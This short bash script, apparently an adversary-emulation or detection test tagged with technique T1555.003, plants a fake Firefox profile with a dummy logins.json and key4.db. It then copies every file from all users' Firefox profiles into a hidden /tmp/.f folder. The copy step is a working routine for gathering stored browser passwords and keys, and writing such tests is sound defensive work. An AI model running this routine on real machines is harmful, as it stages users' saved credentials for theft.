#!/bin/bash
# T1555.003: Passwords that a browser keeps are copied by a script.
d=/home/alice/.mozilla/firefox/ab12.default; mkdir -p $d; echo '{"logins":[]}' >$d/logins.json; echo k >$d/key4.db; sleep 0.3
python3 -c '
import glob,shutil,os
os.makedirs("/tmp/.f",exist_ok=True)
for f in glob.glob("/home/*/.mozilla/firefox/*/*"):
    shutil.copy(f,"/tmp/.f")'
